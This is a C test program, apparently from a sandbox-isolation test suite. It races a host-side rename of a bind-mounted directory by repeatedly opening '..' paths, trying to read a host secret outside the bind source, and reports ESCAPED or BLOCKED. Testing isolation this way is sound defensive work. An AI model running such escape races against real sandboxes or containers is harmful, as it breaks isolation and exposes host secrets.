/* While the host renames a directory of a bind mount out of the bind
 * source and back (again and again), the workload walks through it: it
 * holds the directory open and as its cwd, and opens `..` and names
 * below it, hoping one resolution happens while the directory sits
 * outside the bind source, next to a host secret. */
#include "attack.h"

int main(void) {
    protocol_init("rename_race");
    const char *secret = param("ATTACK_SECRET");
    wait_go(30);
    int dirfd = -1, got = 0;
    long tries = 0;
    struct timespec t0, t;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    do {
        if (dirfd < 0) dirfd = open("/data/sub", O_RDONLY | O_DIRECTORY);
        if (chdir("/data/sub") == 0) {
            if (try_secret_at(AT_FDCWD, "../secret", secret) == 0) got++;
            if (try_secret_at(AT_FDCWD, "../../secret", secret) == 0) got++;
        }
        if (dirfd >= 0) {
            if (try_secret_at(dirfd, "../secret", secret) == 0) got++;
            if (try_secret_at(dirfd, "../out/secret", secret) == 0) got++;
        }
        if (try_secret_at(AT_FDCWD, "/data/sub/../secret", secret) == 0) got++;
        tries++;
        clock_gettime(CLOCK_MONOTONIC, &t);
    } while (t.tv_sec - t0.tv_sec < 3);
    info("%ld rounds of walks", tries);
    if (got)
        verdict("ESCAPED", "read the host secret beside the bind source");
    else
        verdict("BLOCKED", "`..` of a directory renamed out of the bind mount never left the sandbox's tree");
    return 0;
}
